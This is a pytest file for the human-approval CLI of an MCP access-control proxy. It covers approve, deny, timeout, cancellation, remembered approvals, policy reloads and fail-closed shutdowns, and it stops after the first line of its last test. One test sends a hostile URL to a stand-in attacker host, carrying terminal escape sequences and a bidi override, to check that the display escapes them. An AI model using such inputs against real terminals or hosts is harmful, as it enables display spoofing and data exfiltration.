"""Human approval through the real proxy: pending requests answered with
``mcp-acp approvals`` from "another terminal" (another process), over the local socket.
Most tests put the proxy in front of the reference filesystem server; those about what is
remembered use ``peers/recording_server.py``, which writes down every line that reaches
it."""

from __future__ import annotations

import hashlib
import json
import os
import pwd
import re
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from proxy_helpers import (
    CLI,
    DENIED,
    Proxy,
    configure,
    proxy_env,
    records,
    use_holding_sink,
    use_mode_check,
    use_plugin,
    wait_for_event,
)

PEER = Path(__file__).parent / "peers" / "recording_server.py"

ASK_POLICY = {
    "version": "1",
    "rules": [
        {
            "id": "read-project",
            "effect": "allow",
            "conditions": {"operations": "read", "path_pattern": "PROJECT/**"},
        },
        {
            "id": "ask-writes",
            "effect": "ask",
            "conditions": {"tool_name": "write_file", "path_pattern": "PROJECT/**"},
        },
    ],
}


@pytest.fixture
def approvals(setup: Any, isolated_home: Path, tmp_path: Path) -> Any:
    start, project, log_dir, policy = setup
    sockets = tmp_path / "run"
    config_file = isolated_home / ".config" / "mcp-acp" / "config.json"
    config = json.loads(config_file.read_text())
    config["approver"] = {"use": "cli"}
    config["proxy"] = {"approval_timeout_seconds": 5, "socket_dir": str(sockets)}
    config_file.write_text(json.dumps(config))
    policy.write_text(json.dumps(ASK_POLICY).replace("PROJECT", str(project)))
    env = {k: v for k, v in os.environ.items() if not k.startswith(("MCP_ACP_", "XDG_"))}
    env["HOME"] = str(isolated_home)

    def cli(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [str(CLI), "approvals", *args, "--socket-dir", str(sockets)],
            env=env,
            capture_output=True,
            text=True,
            timeout=30,
        )

    def pending() -> list[dict[str, Any]]:
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            listed = json.loads(cli("list", "--json").stdout or "[]")
            if listed:
                return listed  # type: ignore[no-any-return]
            time.sleep(0.05)
        return []

    proxy = start()
    proxy.initialize()
    return proxy, project, log_dir, cli, pending, sockets


def write_request(proxy: Proxy, project: Path, name: str) -> int:
    proxy.next_id += 1
    proxy.send(
        {
            "jsonrpc": "2.0",
            "id": proxy.next_id,
            "method": "tools/call",
            "params": {
                "name": "write_file",
                "arguments": {"path": str(project / name), "content": "approved"},
            },
        }
    )
    return proxy.next_id


def test_approve_deny_timeout_and_cancel(approvals: Any) -> None:
    proxy, project, log_dir, cli, pending, sockets = approvals
    sock = next(sockets.glob("proxy-*.sock"))
    assert oct(sock.stat().st_mode & 0o777) == "0o600"
    assert oct(sockets.stat().st_mode & 0o777) == "0o700"

    # approve
    request_id = write_request(proxy, project, "approved.md")
    waiting = pending()
    assert len(waiting) == 1
    assert re.fullmatch(r"[0-9a-f]{16}", waiting[0]["id"])  # never parsed as a CLI option
    assert "write_file" in waiting[0]["summary"]
    assert waiting[0]["paths"] == [str(project / "approved.md")]
    approved = cli("approve", waiting[0]["id"])
    assert approved.returncode == 0, approved.stderr
    assert approved.stdout == f"{waiting[0]['id']}: allow_once; the proxy: allowed and forwarded\n"
    answer = proxy.recv()
    assert answer["id"] == request_id
    assert "result" in answer
    assert (project / "approved.md").read_text() == "approved"

    # deny
    request_id = write_request(proxy, project, "denied.md")
    denied = cli("deny", pending()[0]["id"])
    assert denied.returncode == 0
    assert ": deny; the proxy: denied: approval required by rule ask-writes" in denied.stdout
    answer = proxy.recv()
    assert answer["error"]["code"] == DENIED
    assert "; not approved: denied by " in answer["error"]["message"]
    assert not (project / "denied.md").exists()

    # nobody answers: denied at the timeout
    started = time.monotonic()
    request_id = write_request(proxy, project, "late.md")
    answer = proxy.recv(timeout=30)
    assert answer["id"] == request_id
    assert "; not approved: timeout after 5 s (request" in answer["error"]["message"]
    assert 4.5 <= time.monotonic() - started < 20
    assert not (project / "late.md").exists()

    # the client cancels while the human has not answered yet
    request_id = write_request(proxy, project, "cancelled.md")
    assert pending()
    proxy.send(
        {
            "jsonrpc": "2.0",
            "method": "notifications/cancelled",
            "params": {"requestId": request_id, "reason": "user pressed stop"},
        }
    )
    deadline = time.monotonic() + 10
    while json.loads(cli("list", "--json").stdout) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert json.loads(cli("list", "--json").stdout) == []
    assert not (project / "cancelled.md").exists()

    unknown = cli("approve", "no-such-id")
    assert unknown.returncode == 1
    assert "no pending approval 'no-such-id'" in unknown.stderr

    assert proxy.close() == 0
    decisions = [r for r in records(log_dir, "decisions") if r.get("tool_name") == "write_file"]
    outcomes = [(r["effect"], r.get("final_effect"), r.get("approver")) for r in decisions]
    assert outcomes == [
        ("ask", "allow", "cli"),
        ("ask", "deny", "cli"),
        ("ask", "deny", "cli"),  # timed out
        ("ask", "deny", "cli"),  # cancelled by the client: on record as a denial
    ]
    me = pwd.getpwuid(os.geteuid()).pw_name
    assert decisions[1]["reason"].endswith(f"; not approved: denied by {me}")
    assert decisions[2]["reason"].endswith("; not approved: timeout after 5 s")
    assert decisions[3]["reason"].endswith("cancelled by the client")
    assert decisions[0]["approved_by"]
    assert decisions[0]["approval_seconds"] > 0
    assert not list(sockets.glob("proxy-*.sock"))  # removed at exit


def test_remember_status_and_reload(approvals: Any, isolated_home: Path) -> None:
    proxy, project, log_dir, cli, pending, sockets = approvals

    def status() -> dict[str, Any]:
        found = cli_status(cli, sockets)
        assert len(found) == 1
        return found[0]

    request_id = write_request(proxy, project, "kept.md")
    approved = cli("approve", pending()[0]["id"], "--remember")
    assert approved.returncode == 0, approved.stderr
    assert approved.stdout.endswith(
        ": allow_and_cache; the proxy: allowed and forwarded; remembered\n"
    )
    assert "result" in proxy.recv()
    # the same write again: answered from the cache, nobody is asked
    request_id = write_request(proxy, project, "kept.md")
    answer = proxy.recv(timeout=10)
    assert answer["id"] == request_id
    assert "result" in answer
    now = status()
    assert now["pid"] == proxy.proc.pid
    assert now["remembered_approvals"] == 1
    assert now["approver"] == "cli"
    assert now["requests"]["asked"] == 1

    # SIGHUP reloads the policy and forgets remembered approvals
    proxy.proc.send_signal(signal.SIGHUP)
    deadline = time.monotonic() + 10
    while status()["remembered_approvals"] and time.monotonic() < deadline:
        time.sleep(0.05)
    assert status()["remembered_approvals"] == 0
    write_request(proxy, project, "kept.md")
    assert cli("deny", pending()[0]["id"]).returncode == 0
    assert proxy.recv()["error"]["code"] == DENIED

    assert proxy.close() == 0
    decisions = [r for r in records(log_dir, "decisions") if r.get("tool_name") == "write_file"]
    assert [(r.get("approval_remembered"), r.get("approval_cached")) for r in decisions] == [
        (True, None),
        (None, True),
        (False, None),
    ]
    assert decisions[1]["approved_by"] == decisions[0]["approved_by"]
    assert cli_status(cli, sockets) == []  # the socket went with the proxy


def cli_status(cli: Any, sockets: Path) -> list[dict[str, Any]]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("MCP_ACP_", "XDG_"))}
    result = subprocess.run(
        [str(CLI), "status", "--json", "--socket-dir", str(sockets)],
        env=env,
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)  # type: ignore[no-any-return]


class Asking:
    """The real ``mcp-acp run`` in front of the recording server, with the ``cli`` approver
    answered by the real ``mcp-acp approvals`` over its socket; with ``mode_file``, a posture
    check whose outcome the file names (``proxy_helpers.use_mode_check``); with
    ``holding_sink``, the audit sink that holds an approved decision until the trail fails
    (``proxy_helpers.use_holding_sink``)."""

    def __init__(self, home: Path, tmp_path: Path, policy: dict[str, Any], **config: Any):
        self.received = tmp_path / "received.jsonl"
        self.received.touch()
        self.log_dir = configure(home, sys.executable, [str(PEER), str(self.received)], policy)
        self.policy = home / ".config" / "mcp-acp" / "policy.json"
        self.sockets = tmp_path / "run"
        config_file = home / ".config" / "mcp-acp" / "config.json"
        settings = json.loads(config_file.read_text())
        settings["approver"] = {"use": "cli"}
        settings["proxy"] = {"socket_dir": str(self.sockets), **config.get("proxy", {})}
        settings["tools"] = {"registry": config.get("registry", [])}
        config_file.write_text(json.dumps(settings))
        self.env = proxy_env(home)
        mode_file = config.get("mode_file")
        if mode_file is not None:
            self.env = use_mode_check(home, tmp_path / "site", mode_file)
        if config.get("holding_sink"):
            self.env = use_holding_sink(home, tmp_path / "site")
        approver = config.get("approver")
        if approver is not None:  # a plugin's approver instead of the cli one: its source
            site = tmp_path / "site"
            self.env = use_plugin(
                home,
                site,
                module="test_approver",
                source=approver,
                name="test-approver",
                use_for="approver",
            )
        self.proxy = Proxy(home, self.env)
        self.proxy.initialize()

    def cli(self, *args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [str(CLI), "approvals", *args, "--socket-dir", str(self.sockets)],
            env=self.env,
            capture_output=True,
            text=True,
            timeout=30,
        )

    def too_late(self, answer: str, approval_id: str) -> str:
        """``approvals approve|deny`` of an approval that has ended: it must fail (exit 1)
        with one line on stderr and nothing on stdout; that line."""
        late = self.cli(answer, approval_id)
        assert (late.returncode, late.stdout) == (1, ""), late
        assert len(late.stderr.splitlines()) == 1, late.stderr
        return late.stderr

    def pending(self) -> list[dict[str, Any]]:
        """The pending approvals, once there are any (waits up to 10 s)."""
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            listed: list[dict[str, Any]] = json.loads(self.cli("list", "--json").stdout or "[]")
            if listed:
                return listed
            time.sleep(0.05)
        raise AssertionError("no approval became pending")

    def echo(self, text: str) -> int:
        return self.proxy.request("tools/call", {"name": "echo", "arguments": {"text": text}})

    def echoed(self) -> list[str]:
        """The texts of the ``echo`` calls that reached the backend."""
        lines = [json.loads(line) for line in self.received.read_text().splitlines()]
        return [
            m["params"]["arguments"]["text"]
            for m in lines
            if m.get("method") == "tools/call" and m["params"]["name"] == "echo"
        ]

    def status(self) -> dict[str, Any]:
        (found,) = cli_status(None, self.sockets)
        return found

    def decisions(self) -> list[dict[str, Any]]:
        return [r for r in records(self.log_dir, "decisions") if r.get("tool_name") == "echo"]

    def operations(self, request_id: int) -> list[tuple[str, str, int | None]]:
        """The operation records of one request: direction, outcome, error code."""
        return [
            (r["direction"], r["outcome"], r.get("error_code"))
            for r in records(self.log_dir, "operations")
            if r.get("request_id") == str(request_id)
        ]


@pytest.fixture
def asking(isolated_home: Path, tmp_path: Path) -> Iterator[Callable[..., Asking]]:
    started: list[Asking] = []

    def start(policy: dict[str, Any], **config: Any) -> Asking:
        started.append(Asking(isolated_home, tmp_path, policy, **config))
        return started[-1]

    yield start
    for run in started:
        if run.proxy.proc.poll() is None:
            run.proxy.proc.kill()
            run.proxy.proc.wait()


ASK_ECHO = {
    "version": "1",
    "rules": [{"id": "ask-echo", "effect": "ask", "conditions": {"tool_name": "echo"}}],
}


@pytest.mark.parametrize(
    "side_effect", ["code_exec", "process_spawn", "sudo_elevate", "container_exec"]
)
def test_approvals_of_tools_that_run_code_are_never_remembered(
    asking: Callable[..., Asking], side_effect: str
) -> None:
    """Each side effect docs/policies.md names as never cached: ``--remember`` is answered
    as a one-off, and the human is told why before answering."""
    entry = {"tool": "echo", "operations": ["execute"], "side_effects": [side_effect]}
    run = asking(ASK_ECHO, registry=[entry])
    first = run.echo("one")
    (waiting,) = run.pending()
    assert waiting["cacheable"] is False
    assert waiting["not_remembered"] == f"never remembered: {side_effect}"
    assert f"(never remembered: {side_effect})" in run.cli("list").stdout
    approved = run.cli("approve", waiting["id"], "--remember")
    assert approved.returncode == 0, approved.stderr
    assert "allow_once" in approved.stdout
    assert "result" in run.proxy.answer(first)

    second = run.echo("one")  # the same call again: asked again, nothing was remembered
    (again,) = run.pending()
    assert run.cli("deny", again["id"]).returncode == 0
    assert run.proxy.answer(second)["error"]["code"] == DENIED
    assert run.status()["remembered_approvals"] == 0
    assert run.proxy.close() == 0
    assert run.echoed() == ["one"]
    remembered = [(r["final_effect"], r["approval_remembered"]) for r in run.decisions()]
    assert remembered == [("allow", False), ("deny", False)]


def _echo_rule(rule_id: str, effect: str) -> dict[str, Any]:
    return {"id": rule_id, "effect": effect, "conditions": {"tool_name": "echo"}}


@pytest.mark.parametrize("effect", ["ask", "deny", "allow"])
def test_an_approval_answered_after_a_reload_is_decided_by_the_new_policy(
    asking: Callable[..., Asking], effect: str
) -> None:
    """A request waits under rule ask-echo-old; the policy is replaced (SIGHUP); then the
    human approves with --remember. The approval answered the old policy's question: the
    new policy decides. It denies: denied, the backend never sees the call. It asks or
    allows: this request passes, and nothing is remembered."""
    run = asking({"version": "1", "rules": [_echo_rule("ask-echo-old", "ask")]})
    first = run.echo("one")
    (waiting,) = run.pending()
    assert waiting["rule"] == "ask-echo-old"
    new_rule = f"{effect}-echo-new"
    run.policy.write_text(json.dumps({"version": "1", "rules": [_echo_rule(new_rule, effect)]}))
    run.proxy.proc.send_signal(signal.SIGHUP)
    reloaded = wait_for_event(run.log_dir, "system", "policy_reloaded")
    approved = run.cli("approve", waiting["id"], "--remember")
    assert approved.returncode == 0, approved.stderr
    # what the CLI prints is what the proxy then did, not what was sent alone
    said = f"{waiting['id']}: allow_and_cache; the proxy: "
    if effect == "deny":
        assert approved.stdout.startswith(f"{said}denied: denied by rule {new_rule}")
        assert "replaced while the request waited" in approved.stdout
    else:
        assert approved.stdout == (
            f"{said}allowed and forwarded; not remembered: the policy changed while the request "
            "waited\n"
        )
    answer = run.proxy.answer(first)
    if effect == "deny":
        assert answer["error"]["code"] == DENIED
        assert f"denied by rule {new_rule}" in answer["error"]["message"]
        assert "replaced while the request waited" in answer["error"]["message"]
    else:
        assert answer["result"]["content"][0]["text"] == "one"

    second = run.echo("one")  # the same call again: no approval was remembered
    if effect == "ask":
        (again,) = run.pending()
        assert again["rule"] == new_rule
        assert run.cli("deny", again["id"]).returncode == 0
        assert run.proxy.answer(second)["error"]["code"] == DENIED
    elif effect == "deny":
        assert run.proxy.answer(second)["error"]["code"] == DENIED
    else:
        assert "result" in run.proxy.answer(second)
    assert run.status()["remembered_approvals"] == 0
    assert run.proxy.close() == 0

    assert run.echoed() == {"ask": ["one"], "deny": [], "allow": ["one", "one"]}[effect]
    record = run.decisions()[0]  # the approved request, as the new policy decided it
    assert record["rule_id"] == new_rule
    assert record["policy_id"] == reloaded["detail"]["policy_id"]
    assert record["final_effect"] == ("deny" if effect == "deny" else "allow")
    assert record["approver"] == "cli"
    assert record["approved_by"]
    assert record["approval_remembered"] is False
    assert "rule ask-echo-old" in record["reason"]


def test_the_policys_approval_terms_replace_the_configs(asking: Callable[..., Asking]) -> None:
    """The config waits 300 s and remembers for 600 s; the policy's ``hitl`` section waits
    5 s, and its rule never remembers (``cache_ttl_seconds: 0``)."""
    rule = {**_echo_rule("ask-echo", "ask"), "approval": {"cache_ttl_seconds": 0}}
    policy = {"version": "1", "rules": [rule], "hitl": {"timeout_seconds": 5}}
    proxy = {"approval_timeout_seconds": 300, "approval_cache_seconds": 600}
    run = asking(policy, proxy=proxy)

    first = run.echo("one")
    (waiting,) = run.pending()
    assert 0 < waiting["expires_in"] <= 5
    assert waiting["not_remembered"] == (
        "never remembered: rule ask-echo's approval.cache_ttl_seconds is 0"
    )
    approved = run.cli("approve", waiting["id"], "--remember")
    assert "allow_once" in approved.stdout
    assert "result" in run.proxy.answer(first)

    second = run.echo("one")  # asked again; nobody answers: denied after the policy's 5 s
    assert run.pending()
    answer = run.proxy.answer(second, timeout=60)
    assert "; not approved: timeout after 5 s (request" in answer["error"]["message"]
    assert run.status()["remembered_approvals"] == 0
    assert run.proxy.close() == 0
    assert run.echoed() == ["one"]
    assert [r["approval_remembered"] for r in run.decisions()] == [False, False]


def test_a_fail_closed_shutdown_denies_the_request_waiting_for_a_human(
    asking: Callable[..., Asking], tmp_path: Path
) -> None:
    """The device fails its posture check while a request waits for a human: the shutdown
    coordinator ends the process at once (exit 15), without the event loop — and before it
    does, the request is denied on record (its decision and operation records, naming the
    shutdown) and the client is told."""
    mode_file = tmp_path / "mode"
    run = asking(ASK_ECHO, mode_file=mode_file)
    request = run.echo("one")
    run.pending()
    mode_file.write_text("fail")
    assert run.proxy.proc.wait(timeout=30) == 15
    why = "the proxy shut down (posture failure: device posture lost: mode is fail: fail)"
    answer = run.proxy.answer(request, timeout=10)
    assert answer["error"]["code"] == DENIED
    assert answer["error"]["message"] == (
        f"denied: {why} before the request was decided (request {request})"
    )
    assert answer["error"]["data"] == {"rule": "builtin-cut-short"}
    (decision,) = run.decisions()
    assert (decision["effect"], decision["final_effect"]) == ("ask", "deny")
    assert decision["approver"] == "cli"
    assert decision["reason"].endswith(f"; not approved: {why}")
    assert run.operations(request) == [("client_to_server", "denied", DENIED)]
    assert run.echoed() == []


@pytest.mark.parametrize("cause", ["posture", "audit"])
def test_an_answer_after_a_fail_closed_shutdown_is_told_why_the_approval_ended(
    asking: Callable[..., Asking], tmp_path: Path, cause: str
) -> None:
    """A request waits for a human when the proxy shuts down fail closed — the device fails
    its posture check (exit 15), or the audit trail fails (the decisions file removed, then
    a call the policy allows: exit 13) — denying it. An answer sent then is told, in one
    line and with exit 1, that the approval ended because the proxy shut down, and why —
    not that there is no such approval. Sent once the process has ended, here: an answer
    sent while it exits takes the same way (the proxy cannot reply; the note it left can)."""
    mode_file = tmp_path / "mode"
    allow_add = {"id": "allow-add", "effect": "allow", "conditions": {"tool_name": "add"}}
    policy = {"version": "1", "rules": [*ASK_ECHO["rules"], allow_add]}
    run = asking(policy, mode_file=mode_file)
    run.echo("one")
    (waiting,) = run.pending()
    if cause == "posture":
        mode_file.write_text("fail")
        why = "posture failure: device posture lost: mode is fail: fail"
    else:
        decisions = run.log_dir / "decisions.jsonl"
        decisions.unlink()
        run.proxy.request("tools/call", {"name": "add", "arguments": {"a": 1, "b": 2}})
        why = f"audit failure: audit file {decisions} was deleted or moved while in use"
    assert run.proxy.proc.wait(timeout=30) == {"posture": 15, "audit": 13}[cause]
    assert not list(run.sockets.glob("proxy-*.sock"))
    (note,) = run.sockets.glob("proxy-*.ended")
    assert note.stat().st_mode & 0o777 == 0o600
    for answer in ("approve", "deny"):
        assert run.too_late(answer, waiting["id"]) == (
            f"error: approval {waiting['id']} ended unanswered: the proxy shut down ({why}); "
            f"the request was denied (proxy pid {run.proxy.proc.pid})\n"
        )
    unknown = run.cli("approve", "0123456789abcdef")  # no proxy ever had it
    assert unknown.returncode == 1
    assert "no pending approval '0123456789abcdef' in any running proxy" in unknown.stderr
    assert run.echoed() == []


@pytest.mark.parametrize("end", ["client", "SIGTERM", "backend"])
def test_an_answer_after_the_session_ended_is_told_why_the_approval_ended(
    asking: Callable[..., Asking], end: str
) -> None:
    """The session ends while a request waits for a human — the client closes it, the proxy
    is stopped, or the backend exits — and the request is denied. An answer sent then is
    told, in one line and with exit 1, that the approval ended and why: the running proxy's
    note outlives it, as it does at a fail-closed exit."""
    crash = {"id": "crash", "effect": "allow", "conditions": {"tool_name": "crash"}}
    run = asking({"version": "1", "rules": [*ASK_ECHO["rules"], crash]})
    run.echo("one")
    (waiting,) = run.pending()
    proc = run.proxy.proc
    if end == "client":
        proc.stdin.close()  # type: ignore[union-attr]
        why = "the client closed the session"
    elif end == "SIGTERM":
        proc.send_signal(signal.SIGTERM)
        why = "the proxy was stopped (SIGTERM received)"
    else:
        run.proxy.request("tools/call", {"name": "crash", "arguments": {}})
        why = "the backend exited"
    code = proc.wait(timeout=30)
    assert code == (17 if end == "backend" else 0)
    assert not list(run.sockets.glob("proxy-*.sock"))
    (note,) = run.sockets.glob("proxy-*.ended")
    assert note.stat().st_mode & 0o777 == 0o600
    for answer in ("approve", "deny"):
        late = run.too_late(answer, waiting["id"])
        assert late.startswith(
            f"error: approval {waiting['id']} ended unanswered: not forwarded: {why}"
        ), late
        assert late.endswith(f" (proxy pid {proc.pid})\n")
    assert run.echoed() == []


def test_an_answer_that_comes_too_late_is_told_what_became_of_the_approval(
    asking: Callable[..., Asking],
) -> None:
    """While the session goes on: an approval answered twice, one the client cancelled and
    one that timed out. Each late answer is told, in one line and with exit 1, what became
    of the approval — not that there is no such approval — and changes nothing."""
    run = asking(ASK_ECHO, proxy={"approval_timeout_seconds": 5})
    pid = run.proxy.proc.pid
    me = pwd.getpwuid(os.geteuid()).pw_name

    first = run.echo("one")
    (waiting,) = run.pending()
    assert run.cli("approve", waiting["id"]).returncode == 0
    assert "result" in run.proxy.answer(first)
    assert run.too_late("deny", waiting["id"]) == (
        f"error: approval {waiting['id']} was already answered (allow_once by {me}); "
        f"the proxy: allowed and forwarded (proxy pid {pid})\n"
    )

    second = run.echo("two")
    (waiting,) = run.pending()
    run.proxy.send(
        {"jsonrpc": "2.0", "method": "notifications/cancelled", "params": {"requestId": second}}
    )
    deadline = time.monotonic() + 10
    while json.loads(run.cli("list", "--json").stdout) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert run.too_late("approve", waiting["id"]) == (
        f"error: approval {waiting['id']} ended unanswered: not forwarded: cancelled by the "
        f"client (proxy pid {pid})\n"
    )

    third = run.echo("three")
    (waiting,) = run.pending()
    answer = run.proxy.answer(third, timeout=30)
    assert "; not approved: timeout after 5 s (request" in answer["error"]["message"]
    timed_out = run.too_late("approve", waiting["id"])
    assert timed_out.startswith(f"error: approval {waiting['id']} ended unanswered: denied: ")
    assert "; not approved: timeout after 5 s" in timed_out
    assert timed_out.endswith(f" (proxy pid {pid})\n")

    assert run.echoed() == ["one"]
    assert run.proxy.close() == 0


def test_an_approval_is_told_the_denial_when_the_trail_fails_before_the_request_is_sent(
    asking: Callable[..., Asking],
) -> None:
    """The human approves; the decision (allowed) is on record; the audit trail fails in the
    moment after, before the request is forwarded. The window is opened here by a sink that
    holds that decision's write until another record fails: the system stream's file is
    removed, then a SIGHUP's ``policy_reloaded`` record cannot be written. The request is
    denied, fail closed (exit 13), and what ``approve`` prints is that denial as the client
    is told it — not the allow it sent."""
    run = asking(ASK_ECHO, holding_sink=True)
    request = run.echo("one")
    (waiting,) = run.pending()
    approving = subprocess.Popen(
        [str(CLI), "approvals", "approve", waiting["id"], "--socket-dir", str(run.sockets)],
        env=run.env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 30
    while not [r for r in run.decisions() if r.get("final_effect") == "allow"]:
        assert time.monotonic() < deadline, "the approved decision was never recorded"
        time.sleep(0.02)
    (run.log_dir / "system.jsonl").unlink()
    run.proxy.proc.send_signal(signal.SIGHUP)  # its record fails: the trail has failed
    printed, errors = approving.communicate(timeout=30)
    assert approving.returncode == 0, errors
    assert run.proxy.proc.wait(timeout=30) == 13
    said = f"{waiting['id']}: allow_once; the proxy: "
    assert printed.startswith(f"{said}denied: the audit trail cannot be written (audit file ")
    answer = run.proxy.answer(request, timeout=10)
    assert answer["error"]["code"] == DENIED
    assert answer["error"]["message"] == f"{printed[len(said) :].rstrip()} (request {request})"
    assert run.echoed() == []


@pytest.mark.parametrize("stop", [signal.SIGTERM, signal.SIGINT], ids=["SIGTERM", "SIGINT"])
def test_a_signal_while_a_human_is_asked_is_the_recorded_reason(
    asking: Callable[..., Asking], stop: signal.Signals
) -> None:
    """Stopped by a signal while a request waits for a human: the denial on record says so,
    not that the client cancelled the request."""
    run = asking(ASK_ECHO)
    request = run.echo("one")
    run.pending()
    run.proxy.proc.send_signal(stop)
    run.proxy.proc.wait(timeout=30)
    (decision,) = run.decisions()
    assert decision["final_effect"] == "deny"
    assert decision["reason"].endswith(
        f"; not approved: the proxy was stopped ({stop.name} received)"
    )
    assert run.operations(request) == [("client_to_server", "denied", DENIED)]
    assert run.echoed() == []


def test_when_the_backend_exits_every_request_waiting_is_answered_and_recorded(
    asking: Callable[..., Asking],
) -> None:
    """The backend exits while one request waits for a human and another for the backend's
    answer: both are answered — the one in flight with the backend's exit, recorded like
    an answer; the one being decided denied, on record naming the backend's exit (not a
    cancellation by the client) — and the session ends (exit 17)."""
    crash = {"id": "crash", "effect": "allow", "conditions": {"tool_name": "crash"}}
    run = asking({"version": "1", "rules": [*ASK_ECHO["rules"], crash]})
    asked = run.echo("one")
    run.pending()
    crashed = run.proxy.request("tools/call", {"name": "crash", "arguments": {}})
    assert run.proxy.proc.wait(timeout=30) == 17
    in_flight = run.proxy.answer(crashed, timeout=10)
    assert in_flight["error"] == {"code": -32000, "message": "the backend exited (code 3)"}
    waiting = run.proxy.answer(asked, timeout=10)
    assert waiting["error"]["code"] == DENIED
    assert waiting["error"]["message"] == (
        f"denied: the backend exited (code 3) before the request was decided (request {asked})"
    )
    (decision,) = run.decisions()
    assert (decision["effect"], decision["final_effect"]) == ("ask", "deny")
    assert decision["reason"].endswith("; not approved: the backend exited (code 3)")
    assert run.operations(asked) == [("client_to_server", "denied", DENIED)]
    assert run.operations(crashed) == [
        ("client_to_server", "forwarded", None),
        ("server_to_client", "error", -32000),
    ]
    assert run.echoed() == []


def test_the_human_sees_every_argument_the_uri_and_the_prompt_escaped(
    asking: Callable[..., Asking],
) -> None:
    """What ``mcp-acp approvals list`` shows: a tool's arguments by name (a long value cut,
    saying how long), a resource's URI, a prompt's name and arguments — with nothing a
    client put in them reaching the terminal as a control sequence or a bidi override;
    ``list --json`` gives the arguments whole."""
    methods = ["tools/call", "resources/read", "prompts/get"]
    rules = [
        {"id": f"ask-{n}", "effect": "ask", "conditions": {"mcp_method": method}}
        for n, method in enumerate(methods)
    ]
    run = asking({"version": "1", "rules": rules})
    hostile = "https://attacker.example/?d=ok\x1b[2K\x1b]0;PWNED\x07\u202eevil"
    arguments = {"url": hostile, "body": "x" * 300}
    fetch = run.proxy.request("tools/call", {"name": "fetch", "arguments": arguments})
    (waiting,) = run.pending()
    assert waiting["arguments"] == arguments
    listed = run.cli("list")
    assert listed.returncode == 0, listed.stderr
    for raw in ("\x1b", "\x07", "\u202e"):
        assert raw not in listed.stdout
    shown = (
        'wants tools/call fetch (url="https://attacker.example/?d=ok\\u001b[2K'
        '\\u001b]0;PWNED\\u0007\\u202eevil", body="' + "x" * 199 + "… (302 characters)); "
        "rule ask-0"
    )
    assert shown in listed.stdout
    assert listed.stdout.startswith(f"{waiting['id']}  expires in ")
    assert run.cli("deny", waiting["id"]).returncode == 0
    assert run.proxy.answer(fetch)["error"]["code"] == DENIED

    read = run.proxy.request("resources/read", {"uri": "note://payroll/all-salaries"})
    (waiting,) = run.pending()
    assert waiting["uri"] == "note://payroll/all-salaries"
    assert "wants resources/read note://payroll/all-salaries; rule ask-1" in run.cli("list").stdout
    assert run.cli("deny", waiting["id"]).returncode == 0
    assert run.proxy.answer(read)["error"]["code"] == DENIED

    prompt = {"name": "summarise", "arguments": {"text": "anything"}}
    get = run.proxy.request("prompts/get", prompt)
    (waiting,) = run.pending()
    assert (waiting["name"], waiting["arguments"]) == ("summarise", {"text": "anything"})
    listed = run.cli("list").stdout
    assert 'wants prompts/get summarise (text="anything"); rule ask-2' in listed
    assert run.cli("deny", waiting["id"]).returncode == 0
    assert run.proxy.answer(get)["error"]["code"] == DENIED
    assert run.proxy.close() == 0


def test_a_large_approval_is_listed_without_its_arguments_and_shown_whole(
    asking: Callable[..., Asking],
) -> None:
    """Arguments of 2 MiB: ``approvals list --json`` leaves them out, saying their size and
    SHA-256 (those of the request's operation record); ``approvals show ID --json`` gives
    them whole, as the client sent them; ``approvals show ID`` prints them with nothing a
    client put in them reaching the terminal as a control sequence or a bidi override, as
    ``list`` escapes them. An id no proxy has is a one-line error, exit 1."""
    run = asking(ASK_ECHO)
    hostile = "ok\x1b[2K\x1b]0;PWNED\x07\u202eevil"
    arguments = {"text": hostile + "x" * (2 << 20)}
    request = run.proxy.request("tools/call", {"name": "echo", "arguments": arguments})
    (waiting,) = run.pending()
    body = json.dumps(arguments, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    omitted = {"bytes": len(body.encode()), "sha256": hashlib.sha256(body.encode()).hexdigest()}
    assert (waiting["arguments"], waiting["arguments_omitted"]) == (None, omitted)
    listed = run.cli("list", "--json")
    assert listed.returncode == 0, listed.stderr
    assert len(listed.stdout) < 4096  # not 2 MiB

    shown = run.cli("show", waiting["id"], "--json")
    assert shown.returncode == 0, shown.stderr
    item = json.loads(shown.stdout)
    assert item["arguments"] == arguments  # whole
    assert item["arguments_omitted"] is None
    assert {k: v for k, v in item.items() if not k.startswith(("arguments", "expires"))} == {
        k: v for k, v in waiting.items() if not k.startswith(("arguments", "expires"))
    }

    readable = run.cli("show", waiting["id"])
    assert readable.returncode == 0, readable.stderr
    for raw in ("\x1b", "\x07", "\u202e"):
        assert raw not in readable.stdout
    first, *rest = readable.stdout.splitlines()
    line = run.cli("list").stdout.rstrip("\n")
    assert re.sub(r"expires in \d+s", "", first) == re.sub(r"expires in \d+s", "", line)
    assert "  rule: ask-echo" in rest
    assert "  tool: echo" in rest
    assert "  arguments:" in rest
    escaped = '"text": "ok\\u001b[2K\\u001b]0;PWNED\\u0007\\u202eevil' + "x" * 100
    assert any(r.startswith(f"      {escaped}") for r in rest)

    unknown = run.cli("show", "0123456789abcdef")
    assert (unknown.returncode, unknown.stdout) == (1, "")
    (error,) = unknown.stderr.splitlines()
    assert error.startswith("error: no pending approval '0123456789abcdef' in any running proxy")
    assert "fix: run 'mcp-acp approvals list'" in error

    assert run.cli("deny", waiting["id"]).returncode == 0
    assert run.proxy.answer(request)["error"]["code"] == DENIED
    assert run.proxy.close() == 0
    (operation,) = [
        r for r in records(run.log_dir, "operations") if r.get("request_id") == str(request)
    ]
    assert (operation["arguments_size"], operation["arguments_sha256"]) == tuple(omitted.values())
    assert run.echoed() == []


def test_approvals_and_status_find_the_configs_socket_dir(
    asking: Callable[..., Asking], isolated_home: Path
) -> None:
    """The proxy serves its socket in the config's ``proxy.socket_dir``; ``mcp-acp
    approvals`` and ``mcp-acp status`` without ``--socket-dir`` look there too (not in the
    runtime dir), so the request is answered instead of timing out."""
    run = asking(ASK_ECHO)
